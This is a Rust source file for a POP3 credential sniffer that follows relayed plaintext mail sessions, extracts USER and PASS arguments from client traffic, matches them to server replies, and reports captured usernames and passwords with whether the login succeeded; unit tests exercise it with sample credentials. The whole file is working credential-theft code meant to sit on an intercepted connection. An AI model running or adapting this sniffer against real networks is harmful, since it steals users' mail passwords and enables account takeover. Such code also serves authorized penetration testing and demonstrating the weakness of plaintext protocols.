//! POP3 credential sniffer for relayed plaintext sessions.
use std::collections::VecDeque;
use std::sync::atomic::{AtomicBool, Ordering};

use log::*;
use regex::bytes::Regex;

pub const POP3_PORT: u16 = 110;

// RFC1939 allows 512 octets per line including CRLF
const MAX_LINE: usize = 512;

// unanswered USER/PASS commands kept before the oldest is forgotten
const MAX_PENDING: usize = 16;

/// Runtime on/off switch, checked on every relayed chunk
#[derive(Debug)]
pub struct SnifferSwitch(AtomicBool);

impl SnifferSwitch {
    pub fn new(on: bool) -> Self {
        Self(AtomicBool::new(on))
    }

    pub fn is_on(&self) -> bool {
        self.0.load(Ordering::Relaxed)
    }

    pub fn set(&self, on: bool) {
        info!("sniffer {}", if on { "enabled" } else { "disabled" });
        self.0.store(on, Ordering::Relaxed);
    }
}

impl Default for SnifferSwitch {
    fn default() -> Self {
        Self::new(true)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SniffedCredentials {
    pub user: String,
    pub pass: String,
    /// server answered `+OK` to PASS
    pub accepted: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Pending {
    User,
    Pass,
    /// a run of consecutive commands of no interest
    Other(usize),
}

/// Commands still waiting for a status line, oldest first
#[derive(Debug, Default)]
struct PendingQueue(VecDeque<Pending>);

impl PendingQueue {
    fn push(&mut self, cmd: Pending) {
        if let Pending::Other(m) = cmd {
            if let Some(Pending::Other(n)) = self.0.back_mut() {
                *n = n.saturating_add(m);
                return;
            }
        }
        if self.0.len() == MAX_PENDING {
            trace!("pop3 sniffer: too many unanswered commands, dropping the oldest");
            self.0.pop_front();
        }
        self.0.push_back(cmd);
    }

    fn pop(&mut self) -> Option<Pending> {
        match self.0.front_mut() {
            Some(Pending::Other(n)) if *n > 1 => {
                *n -= 1;
                Some(Pending::Other(1))
            }
            _ => self.0.pop_front(),
        }
    }

    #[cfg(test)]
    fn len(&self) -> usize {
        self.0.len()
    }
}

#[derive(Debug, Default)]
struct LineBuffer {
    line: Vec<u8>,
    overlong: bool,
}

impl LineBuffer {
    /// Feed bytes, calling `f` with every complete line without its CRLF
    fn feed<F: FnMut(&[u8])>(&mut self, data: &[u8], mut f: F) {
        for &b in data {
            if b == b'\n' {
                if !self.overlong {
                    let line = self.line.strip_suffix(b"\r").unwrap_or(&self.line);
                    f(line);
                }
                self.line.clear();
                self.overlong = false;
            } else if self.line.len() < MAX_LINE {
                self.line.push(b);
            } else {
                self.overlong = true;
            }
        }
    }
}

/// Follows one POP3 conversation in both directions.
///
/// Commands are taken from the client bytes and status lines from the
/// server bytes. Anything unexpected is skipped.
#[derive(Debug)]
pub struct Pop3Sniffer {
    command: Regex,
    status: Regex,
    client: LineBuffer,
    server: LineBuffer,
    pending: PendingQueue,
    user: Option<String>,
    pass: Option<String>,
}

impl Pop3Sniffer {
    pub fn new() -> Result<Self, regex::Error> {
        Ok(Self {
            command: Regex::new(r"(?i-u)\A(USER|PASS) (.*)\z")?,
            status: Regex::new(r"\A(\+OK|-ERR)")?,
            client: LineBuffer::default(),
            server: LineBuffer::default(),
            pending: PendingQueue::default(),
            user: None,
            pass: None,
        })
    }

    /// Bytes sent by the client toward the server
    pub fn client_bytes(&mut self, data: &[u8]) {
        let Self {
            command,
            client,
            pending,
            user,
            pass,
            ..
        } = self;
        client.feed(data, |line| {
            let caps = match command.captures(line) {
                Some(caps) => caps,
                None => {
                    pending.push(Pending::Other(1));
                    return;
                }
            };
            let arg = String::from_utf8_lossy(&caps[2]).into_owned();
            if caps[1].eq_ignore_ascii_case(b"USER") {
                *user = Some(arg);
                *pass = None;
                pending.push(Pending::User);
            } else {
                *pass = Some(arg);
                pending.push(Pending::Pass);
            }
        });
    }

    /// Bytes sent by the server back toward the client.
    /// Returns the credentials once the server has answered a PASS.
    pub fn server_bytes(&mut self, data: &[u8]) -> Vec<SniffedCredentials> {
        let Self {
            status,
            server,
            pending,
            user,
            pass,
            ..
        } = self;
        let mut found = vec![];
        server.feed(data, |line| {
            let caps = match status.captures(line) {
                Some(caps) => caps,
                None => return,
            };
            // the greeting answers no command
            match pending.pop() {
                Some(Pending::Pass) => {}
                _ => return,
            }
            if let (Some(u), Some(p)) = (user.as_ref(), pass.take()) {
                found.push(SniffedCredentials {
                    user: u.clone(),
                    pass: p,
                    accepted: &caps[1] == b"+OK",
                });
            }
        });
        found
    }
}

#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn login_accepted() {
        let mut sniffer = Pop3Sniffer::new().unwrap();
        assert!(sniffer.server_bytes(b"+OK POP3 ready\r\n").is_empty());
        sniffer.client_bytes(b"USER alice\r\n");
        assert!(sniffer.server_bytes(b"+OK\r\n").is_empty());
        sniffer.client_bytes(b"PASS op");
        sniffer.client_bytes(b"en sesame\r\n");
        assert_eq!(
            sniffer.server_bytes(b"+OK maildrop locked\r\n"),
            vec![SniffedCredentials {
                user: "alice".into(),
                pass: "open sesame".into(),
                accepted: true,
            }]
        );
    }

    #[test]
    fn pipelined_and_rejected() {
        let mut sniffer = Pop3Sniffer::new().unwrap();
        sniffer.client_bytes(b"user bob\r\npass wrong\r\n");
        let found = sniffer.server_bytes(b"+OK\r\n-ERR invalid password\r\n");
        assert_eq!(
            found,
            vec![SniffedCredentials {
                user: "bob".into(),
                pass: "wrong".into(),
                accepted: false,
            }]
        );
    }

    #[test]
    fn ignores_noise() {
        let mut sniffer = Pop3Sniffer::new().unwrap();
        sniffer.client_bytes(b"CAPA\r\n");
        sniffer.client_bytes(&[b'x'; 2 * MAX_LINE]);
        sniffer.client_bytes(b"\r\n");
        sniffer.client_bytes(b"PASS nouser\r\n");
        assert!(sniffer
            .server_bytes(b"+OK\r\nTOP\r\n.\r\n-ERR\r\n+OK\r\n")
            .is_empty());
    }

    #[test]
    fn unanswered_commands_stay_bounded() {
        let mut sniffer = Pop3Sniffer::new().unwrap();
        sniffer.client_bytes(&vec![b'\n'; 1 << 20]);
        assert_eq!(sniffer.pending.len(), 1);
        sniffer.client_bytes(b"USER carol\r\nPASS hunter2\r\n");
        assert_eq!(sniffer.pending.len(), 3);

        let mut replies = b"-ERR\r\n".repeat(1 << 20);
        replies.extend_from_slice(b"+OK\r\n+OK\r\n");
        assert_eq!(
            sniffer.server_bytes(&replies),
            vec![SniffedCredentials {
                user: "carol".into(),
                pass: "hunter2".into(),
                accepted: true,
            }]
        );
        assert_eq!(sniffer.pending.len(), 0);

        for _ in 0..4 * MAX_PENDING {
            sniffer.client_bytes(b"USER x\r\nCAPA\r\n");
        }
        assert_eq!(sniffer.pending.len(), MAX_PENDING);
    }

    #[test]
    fn switch() {
        let switch = SnifferSwitch::default();
        assert!(switch.is_on());
        switch.set(false);
        assert!(!switch.is_on());
    }
}
